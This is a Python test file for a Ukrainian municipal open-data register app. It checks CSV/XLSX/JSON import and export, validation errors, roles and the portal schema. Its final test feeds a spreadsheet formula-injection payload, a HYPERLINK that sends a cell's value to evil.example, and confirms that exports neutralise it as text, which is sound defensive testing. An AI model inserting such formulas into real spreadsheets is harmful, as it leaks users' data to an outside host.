"""Importing the register from CSV/XLSX in the shape of Annex 1 and exporting it."""

import csv
import io
import json
from typing import Any

import openpyxl
from fastapi.testclient import TestClient

from api.demo.runner import load_seed
from tests.factories import create_organization, second_organization

HEADER = [
    "№ з/п",
    "Найменування набору даних",
    "Структурний підрозділ -розпорядник відповідної інформації",
    "Прізвище, ім’я та по батькові, посада відповідальної посадової особи",
    "Періодичність оприлюднення",
]
ROWS = [
    [
        "1.",
        "Перелік об’єктів комунальної власності",
        "Управління комунальної власності",
        "Дячук Ганна Ігорівна – спеціаліст управління комунальної власності",
        "щороку та в міру потреби",
    ],
    [
        "2.",
        "Звіти про виконання фінансових планів",
        "Управління освіти; Загальний відділ",
        "Коваль Олена - головний спеціаліст",
        "щоквартально протягом 35 днів після закінчення звітного кварталу",
    ],
    ["", "", "", "", ""],
    [
        "3.",
        "Інформація про кадровий склад",
        "Загальний відділ",
        "",
        "впродовж п’яти робочих днів з моменту внесення змін; подає загальний відділ",
    ],
]


def _csv(rows: list[list[str]], *, delimiter: str = ",", encoding: str = "utf-8-sig") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue().encode(encoding)


def _xlsx(rows: list[list[Any]]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["ПЕРЕЛІК наборів відкритих даних"])  # a title row above the header
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _import(
    client: TestClient, org: dict[str, Any], data: bytes, fmt: str = "csv", **params: str
) -> Any:
    return client.post(
        f"/api/organizations/{org['id']}/register/import",
        params={"format": fmt, **params},
        headers=org["coordinator"],
        content=data,
    )


def _export(client: TestClient, org: dict[str, Any], fmt: str, shape: str = "annex1") -> Any:
    response = client.get(
        f"/api/organizations/{org['id']}/register/export",
        params={"format": fmt, "shape": shape},
        headers=org["coordinator"],
    )
    assert response.status_code == 200, response.text
    return response


def test_import_csv_in_the_shape_of_annex1_and_export_it(client: TestClient) -> None:
    org = create_organization(client)
    response = _import(client, org, _csv([HEADER, *ROWS], delimiter=";", encoding="cp1251"))
    assert response.status_code == 201, response.text
    assert response.json() == {"added": 3}

    rows = _export(client, org, "json").json()
    assert [r["number"] for r in rows] == [1, 2, 3]
    assert rows[0]["officials"] == [
        {
            "full_name": "Дячук Ганна Ігорівна",
            "position": "спеціаліст управління комунальної власності",
            "email": None,
        }
    ]
    assert rows[1]["units"] == ["Загальний відділ", "Управління освіти"]  # in the units' order
    assert rows[1]["update_frequency"] == "once a quarter"
    assert rows[2]["officials"] == []
    assert rows[2]["periodicity"] == (
        "позапланово (протягом п’яти робочих днів з моменту внесення змін); подає загальний відділ"
    )

    exported = _export(client, org, "csv")
    assert exported.headers["content-type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert table[0][0] == "№ з/п"
    assert table[2][2] == "Загальний відділ; Управління освіти"
    assert table[1][3] == ("Дячук Ганна Ігорівна – спеціаліст управління комунальної власності")

    # The exported file imports back (replacing the register) unchanged.
    response = _import(client, org, exported.content, replace="true")
    assert response.status_code == 201, response.text
    assert _export(client, org, "json").json() == rows


def test_import_xlsx_and_export_xlsx(client: TestClient) -> None:
    org = create_organization(client)
    data = _xlsx([HEADER, [1, *ROWS[0][1:]], [2, *ROWS[1][1:]]])
    response = _import(client, org, data, "xlsx")
    assert response.status_code == 201, response.text
    exported = _export(client, org, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
    assert sheet is not None
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0][4] == "Періодичність оприлюднення"
    assert values[1][:2] == [1, "Перелік об’єктів комунальної власності"]
    assert values[2][4] == "щоквартально протягом 35 днів після закінчення звітного кварталу"
    bad = _import(client, org, b"PK\x03\x04 not really a workbook", "xlsx")
    assert bad.status_code == 422
    assert "XLSX" in bad.json()["detail"]


def test_bad_rows_are_named_and_nothing_is_imported(client: TestClient) -> None:
    org = create_organization(client)
    unknown_phrase = [HEADER, ROWS[0], ["2", "Набір", "Загальний відділ", "", "коли заманеться"]]
    response = _import(client, org, _csv(unknown_phrase))
    assert response.status_code == 422
    assert response.json()["detail"] == "Рядок 2: Невідома періодичність: «коли заманеться»."
    unknown_unit = [HEADER, ["7", "Набір", "Відділ-привид", "", "щороку"]]
    response = _import(client, org, _csv(unknown_unit))
    assert response.status_code == 422
    assert response.json()["detail"].startswith("Рядок 7: Невідомі підрозділи: Відділ-привид")
    bad_number = [HEADER, ["перший", "Набір", "Загальний відділ", "", "щороку"]]
    response = _import(client, org, _csv(bad_number))
    assert response.status_code == 422
    assert "Рядок 2" in response.json()["detail"]
    assert "цілим числом" in response.json()["detail"]
    no_columns = [["№", "Назва"], ["1", "Набір"]]
    response = _import(client, org, _csv(no_columns))
    assert response.status_code == 422
    assert "стовпців: структурний підрозділ, періодичність" in response.json()["detail"]
    # All or nothing: the first good row of a bad file was not kept.
    assert _export(client, org, "json").json() == []
    # Numbers already taken are refused unless the register is replaced.
    assert _import(client, org, _csv([HEADER, ROWS[0]])).status_code == 201
    assert _import(client, org, _csv([HEADER, ROWS[0]])).status_code == 422


def test_roles_and_organizations(client: TestClient) -> None:
    org = create_organization(client)
    other = second_organization(client)
    data = _csv([HEADER, ROWS[0]])
    response = client.post(
        f"/api/organizations/{org['id']}/register/import", headers=org["mayor"], content=data
    )
    assert response.status_code == 403
    response = client.post(
        f"/api/organizations/{org['id']}/register/import",
        headers=other,
        content=data,
    )
    assert response.status_code == 404
    response = client.get(f"/api/organizations/{org['id']}/register/export")
    assert response.status_code == 401


def test_seed_register_round_trips_and_portal_structure(client: TestClient) -> None:
    seed = load_seed()
    units = sorted({u for r in seed["register"] for u in r["units"]})
    response = client.post(
        "/api/organizations",
        json={
            "name": "Калуська міська рада",
            "edrpou": "04054576",
            "units": [{"name": u} for u in units],
            "coordinator": {"email": "c@kalush.example.org", "password": "correct-horse-battery"},
        },
    )
    assert response.status_code == 201
    org_id = response.json()["id"]
    login = client.post(
        "/api/auth/login",
        json={"email": "c@kalush.example.org", "password": "correct-horse-battery"},
    )
    headers = {"Authorization": f"Bearer {login.json()['token']}"}
    table = [HEADER] + [
        [
            str(r["number"]),
            r["name"],
            "; ".join(r["units"]),
            "; ".join(f"{o['full_name']} – {o['position']}" for o in r["officials"]),
            r["periodicity"],
        ]
        for r in seed["register"]
    ]
    response = client.post(
        f"/api/organizations/{org_id}/register/import", headers=headers, content=_csv(table)
    )
    assert response.status_code == 201, response.text
    assert response.json() == {"added": 62}

    response = client.get(
        f"/api/organizations/{org_id}/register/export",
        params={"format": "json", "shape": "portal"},
        headers=headers,
    )
    portal = json.loads(response.content)
    assert len(portal) == 62
    assert list(portal[0]) == [
        "title",
        "description",
        "keywords",
        "purpose",
        "url",
        "accrualPeriodicity",
        "distributionFormat",
        "publisherName",
        "publisherId",
        "contactPointName",
        "contactPointEmail",
    ]
    assert portal[0]["title"] == "Перелік об’єктів комунальної власності"
    assert portal[0]["accrualPeriodicity"] == "щороку"
    assert portal[0]["publisherName"] == "Калуська міська рада"
    assert portal[0]["publisherId"] == "04054576"
    assert portal[0]["contactPointName"] == seed["register"][0]["officials"][0]["full_name"]
    # An entry with an official per enterprise: the portal's one contact point is the first.
    shared = next(r for r in seed["register"] if r["number"] == 61)
    assert portal[60]["contactPointName"] == shared["officials"][0]["full_name"]
    annex1 = client.get(
        f"/api/organizations/{org_id}/register/export",
        params={"format": "json"},
        headers=headers,
    ).json()
    assert [o["full_name"] for o in annex1[60]["officials"]] == [
        o["full_name"] for o in shared["officials"]
    ]
    frequencies = {row["accrualPeriodicity"] for row in portal}
    assert frequencies <= {
        "щороку",
        "щопівроку",
        "щокварталу",
        "щомісяця",
        "відразу після внесення змін",
    }
    response = client.get(
        f"/api/organizations/{org_id}/register/export",
        params={"format": "csv", "shape": "portal"},
        headers=headers,
    )
    header = response.content.decode("utf-8-sig").splitlines()[0]
    assert header.startswith("title,description,keywords,purpose,url,accrualPeriodicity")


def test_import_several_officials_in_order_and_export_them(client: TestClient) -> None:
    """The officials cell may name several people, by «;» or on new lines, each
    «ПІБ – посада»; all are kept in the register's order and exported."""
    org = create_organization(client)
    header = [*HEADER, "E-mail"]
    rows = [
        [
            "1",
            "Звіти про виконання фінансових планів",
            "Управління освіти",
            "Коваль Олена – головний спеціаліст; Аксенюк Петро – начальник відділу",
            "щороку",
            "olena@example.org; petro@example.org",
        ],
        [
            "2",
            "Перелік об’єктів",
            "Загальний відділ",
            "Яковенко Ірина – спеціаліст\nБойко Марта – головний\nспеціаліст відділу",
            "щороку",
            "",
        ],
    ]
    response = _import(client, org, _csv([header, *rows]))
    assert response.status_code == 201, response.text
    exported = _export(client, org, "json").json()
    assert exported[0]["officials"] == [
        {
            "full_name": "Коваль Олена",
            "position": "головний спеціаліст",
            "email": "olena@example.org",
        },
        {
            "full_name": "Аксенюк Петро",
            "position": "начальник відділу",
            "email": "petro@example.org",
        },
    ]
    assert [(o["full_name"], o["position"]) for o in exported[1]["officials"]] == [
        ("Яковенко Ірина", "спеціаліст"),
        ("Бойко Марта", "головний спеціаліст відділу"),
    ]

    table = list(csv.reader(io.StringIO(_export(client, org, "csv").content.decode("utf-8-sig"))))
    assert table[1][3] == "Коваль Олена – головний спеціаліст; Аксенюк Петро – начальник відділу"
    assert table[2][3] == "Яковенко Ірина – спеціаліст; Бойко Марта – головний спеціаліст відділу"
    xlsx = openpyxl.load_workbook(io.BytesIO(_export(client, org, "xlsx").content)).active
    assert xlsx is not None
    assert xlsx.cell(row=2, column=4).value == table[1][3]

    # The CSV imports back with both officials, in the same order.
    csv_export = _export(client, org, "csv").content
    assert _import(client, org, csv_export, replace="true").status_code == 201
    again = _export(client, org, "json").json()
    assert [[o["full_name"] for o in r["officials"]] for r in again] == [
        ["Коваль Олена", "Аксенюк Петро"],
        ["Яковенко Ірина", "Бойко Марта"],
    ]


def test_json_register_takes_officials_and_the_old_single_official(client: TestClient) -> None:
    org = create_organization(client)
    url = f"/api/organizations/{org['id']}/register"
    old = {
        "number": 1,
        "name": "Перелік об’єктів",
        "units": ["Загальний відділ"],
        "official": {"full_name": "Коваль Олена", "position": "спеціаліст"},
        "periodicity": "щороку",
    }
    new = {
        "number": 2,
        "name": "Звіти",
        "units": ["Загальний відділ"],
        "officials": [
            {"full_name": "Бойко Марта", "position": "начальниця"},
            {"full_name": "Коваль Олена", "position": "спеціаліст"},
        ],
        "periodicity": "щороку",
    }
    response = client.post(url, headers=org["coordinator"], json=[old, new])
    assert response.status_code == 201, response.text
    rows = _export(client, org, "json").json()
    assert [[o["full_name"] for o in r["officials"]] for r in rows] == [
        ["Коваль Олена"],
        ["Бойко Марта", "Коваль Олена"],
    ]
    both = {**old, "number": 3, "officials": new["officials"]}
    response = client.post(url, headers=org["coordinator"], json=[both])
    assert response.status_code == 422


def test_exports_keep_formulas_as_text_and_import_back_unchanged(client: TestClient) -> None:
    org = create_organization(client)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Натисніть")'
    rows = [
        HEADER,
        ["1.", formula, "Загальний відділ", "", "щороку"],
        ["2.", "@SUM(1+1)", "Загальний відділ", "", "щороку"],
    ]
    imported = _import(client, org, _csv(rows))
    assert imported.status_code == 201, imported.text

    exported = _export(client, org, "csv")
    table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert [table[1][1], table[2][1]] == ["'" + formula, "'@SUM(1+1)"]
    sheet = openpyxl.load_workbook(io.BytesIO(_export(client, org, "xlsx").content)).active
    assert sheet is not None
    assert sheet["B2"].data_type == "s"  # a string, not a formula
    assert sheet["B2"].value == "'" + formula

    before = _export(client, org, "json").json()
    assert _import(client, org, exported.content, replace="true").status_code == 201
    assert _export(client, org, "json").json() == before
    assert before[0]["name"] == formula
